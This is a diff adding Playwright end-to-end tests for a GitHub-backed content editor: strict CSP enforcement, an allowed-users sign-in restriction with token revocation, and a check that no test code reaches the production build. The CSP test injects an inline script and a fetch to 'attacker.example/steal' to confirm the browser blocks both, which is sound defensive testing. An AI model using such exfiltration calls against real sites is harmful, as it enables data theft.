@@ -1,3 +1,5 @@
+import { readdirSync, readFileSync, statSync } from "node:fs";
+import { join } from "node:path";
 import { expect, type BrowserContext, type Page, test } from "@playwright/test";
 import { startLiveEditor } from "./support/editor";
 import { type FakeGitHub, startFakeGitHub } from "./support/fake-github";
@@ -165,4 +167,60 @@ test("signing out revokes the token at GitHub and clears both cookies", async ({
   expect(await context.cookies(editor.url)).toEqual([]);
   expect(github.state.revoked).toContain(token);
   expect(github.tokenIsValid(token)).toBe(false);
+});
+
+test("the editor's page holds a strict CSP, which the browser enforces", async ({ page }) => {
+  const response = await page.goto(`${editor.url}/keystatic`);
+  expect(response!.headers()["content-security-policy"]).toBe(
+    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: https://avatars.githubusercontent.com; connect-src 'self' https://api.github.com; object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'none'",
+  );
+  // An injected inline script does not run, and a call to any other host is refused before it leaves.
+  const ran = await page.evaluate(async () => {
+    const script = document.createElement("script");
+    script.textContent = "window.injected = true";
+    document.head.append(script);
+    const fetched = await fetch("https://attacker.example/steal").then(() => true, () => false);
+    return { script: "injected" in window, fetched };
+  });
+  expect(ran).toEqual({ script: false, fetched: false });
+  const events = () => violations.filter((text) => text.startsWith("CSP violation:"));
+  await expect.poll(() => events().length).toBe(2);
+  expect(events()).toEqual([expect.stringContaining("script-src-elem inline"), expect.stringContaining("connect-src https://attacker.example/steal")]);
+  expect(outside, "refused by the CSP, not by the test's router").toEqual([]);
+  violations = [];
+});
+
+test("with EDITOR_ALLOWED_USERS, anyone else is refused at sign-in and their new token revoked", async ({ page, context }) => {
+  const restricted = await startLiveEditor(github.url, { ...settings, EDITOR_ALLOWED_USERS: "Someone-Else, another-editor" });
+  const callbackUrl = github.state.callbackUrl;
+  github.state.callbackUrl = `${restricted.url}/api/keystatic/github/oauth/callback`;
+  try {
+    const revoked = github.state.revoked.length;
+    await page.goto(`${restricted.url}/keystatic`);
+    await page.getByRole("button", { name: "Log in with GitHub" }).click();
+    await expect(page.getByText("Sign-in refused: content-editor is not one of the editor's users")).toBeVisible();
+    expect(await context.cookies(restricted.url)).toEqual([]);
+    expect(github.state.revoked.length).toBe(revoked + 1);
+    expect(github.tokenIsValid(github.state.revoked.at(-1)!)).toBe(false);
+
+    github.state.signInAs = "another-editor";
+    await page.goto(`${restricted.url}/keystatic`);
+    await page.getByRole("button", { name: "Log in with GitHub" }).click();
+    await expect(page.getByRole("link", { name: "Services" }).first()).toBeVisible({ timeout: 30_000 });
+  } finally {
+    github.state.signInAs = "content-editor";
+    github.state.callbackUrl = callbackUrl;
+    await restricted.stop();
+  }
+});
+
+test("no test code is in the production build: the fake GitHub and the fetch preload stay in e2e/support", () => {
+  const traces: string[] = [];
+  const walk = (path: string) => {
+    if (statSync(path).isDirectory()) return readdirSync(path).forEach((name) => walk(join(path, name)));
+    if (/\.(br|gz|png|webp|ico)$/.test(path)) return;
+    if (/FAKE_GITHUB_URL|github-fetch-preload|fake-github|e2e\/support|graphql-schema/.test(readFileSync(path, "utf8"))) traces.push(path);
+  };
+  for (const dir of ["build/client", "build/server", "build/editor"]) walk(dir);
+  expect(traces).toEqual([]);
 });
